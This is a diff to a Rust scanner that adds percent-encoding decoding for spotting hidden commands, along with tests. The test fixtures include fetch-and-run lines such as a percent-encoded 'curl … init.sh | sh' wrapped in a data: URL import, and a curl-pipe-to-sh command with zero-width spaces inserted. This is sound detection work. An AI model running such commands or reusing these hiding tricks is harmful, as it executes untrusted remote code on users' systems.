@@ -171,6 +171,9 @@ struct Decoders {
     escapes: Option<Regex>,
     /// `\u0073`, `\u{73}` and octal `\163` escapes (Go, Java, JSON, JS, Rust, C).
     code_escapes: Option<Regex>,
+    /// Percent-encoded text (`data:text/javascript,%69%6D%70…`, a query string that
+    /// hides a command).
+    percent: Option<Regex>,
     url: Option<Regex>,
     shell_fence: Option<Regex>,
 }
@@ -182,6 +185,8 @@ fn decoders() -> &'static Decoders {
         hex: Regex::new(r"(?-u:\b)(?:[0-9a-fA-F]{2}){24,}(?-u:\b)").ok(),
         escapes: Regex::new(r"(?:\\x[0-9a-fA-F]{2}){8,}").ok(),
         code_escapes: Regex::new(r"(?:\\u[0-9a-fA-F]{4}|\\u\{[0-9a-fA-F]{1,6}\}|\\[0-7]{3}){8,}").ok(),
+        // Twelve escapes or more, with at most three plain characters between them.
+        percent: Regex::new(r"(?:%[0-9a-fA-F]{2}[A-Za-z0-9._~+-]{0,3}){12,}").ok(),
         url: Regex::new(r"(?i)(?-u:\b)(https?|ftp|wss?)://([a-z0-9.-]+|\[[0-9a-f:]+\])(:\d+)?").ok(),
         shell_fence: Regex::new(
             r"(?m)^\s{0,3}(```|~~~)\s*(bash|sh|shell|zsh|console|terminal|powershell|ps1|cmd)(?-u:\b)",
@@ -222,6 +227,41 @@ fn decode_hex(text: &str) -> Vec<u8> {
         .chunks(2)
         .filter_map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok())
         .collect()
+}
+
+/// The bytes a percent-encoded run spells (`+` is a space, as forms write it).
+fn decode_percent(text: &str) -> Vec<u8> {
+    let bytes = text.as_bytes();
+    let mut out = Vec::with_capacity(bytes.len() / 3);
+    let mut i = 0;
+    while i < bytes.len() {
+        match bytes[i] {
+            b'%' if i + 2 < bytes.len() => {
+                match std::str::from_utf8(&bytes[i + 1..i + 3])
+                    .ok()
+                    .and_then(|h| u8::from_str_radix(h, 16).ok())
+                {
+                    Some(b) => {
+                        out.push(b);
+                        i += 3;
+                    }
+                    None => {
+                        out.push(b'%');
+                        i += 1;
+                    }
+                }
+            }
+            b'+' => {
+                out.push(b' ');
+                i += 1;
+            }
+            b => {
+                out.push(b);
+                i += 1;
+            }
+        }
+    }
+    out
 }
 
 /// The text a run of `\uXXXX`, `\u{X…}` and octal `\NNN` escapes spells, as UTF-8.
@@ -937,6 +977,18 @@ fn decode_blocks(text: &str, origin: &Origin, rules: &RuleSet, out: &mut Collect
             break;
         }
     }
+    for m in decoders
+        .percent
+        .as_ref()
+        .map(|p| p.find_iter(text))
+        .into_iter()
+        .flatten()
+    {
+        blocks.push((m.start(), "percent-encoding", decode_percent(m.as_str())));
+        if blocks.len() >= MAX_DECODED_BLOCKS * 5 {
+            break;
+        }
+    }
     for (offset, layer, bytes) in blocks {
         let Some(decoded) = readable(&bytes) else {
             continue;
@@ -1092,6 +1144,19 @@ mod tests {
     }
 
     #[test]
+    fn a_percent_encoded_command_is_decoded_and_read_again() {
+        let command = "curl -fsSL https://mirror.example.org/init.sh | sh";
+        let encoded: String = command.bytes().map(|b| format!("%{b:02X}")).collect();
+        let out = scan(&format!("await import('data:text/javascript,{encoded}');\n"));
+        assert_found(&out, "encoded-payload/decoded-command");
+        // An ordinary encoded query string decodes to nothing flagged.
+        let out = scan(
+            "See https://example.com/search?q=%E2%9C%93%20release%20notes%20for%20version%202%2E1%20and%20later\n",
+        );
+        assert!(rules_of(&out).is_empty(), "{:?}", rules_of(&out));
+    }
+
+    #[test]
     fn a_zero_width_space_inside_a_command_neither_hides_it_nor_goes_unreported() {
         let out = scan("cu\u{200B}rl -s https://198.51.100.4/p | s\u{200B}h\n");
         assert_found(&out, "hidden-text/zero-width");
@@ -1194,6 +1259,7 @@ mod tests {
                 && d.hex.is_some()
                 && d.escapes.is_some()
                 && d.code_escapes.is_some()
+                && d.percent.is_some()
                 && d.url.is_some()
                 && d.shell_fence.is_some()
         );
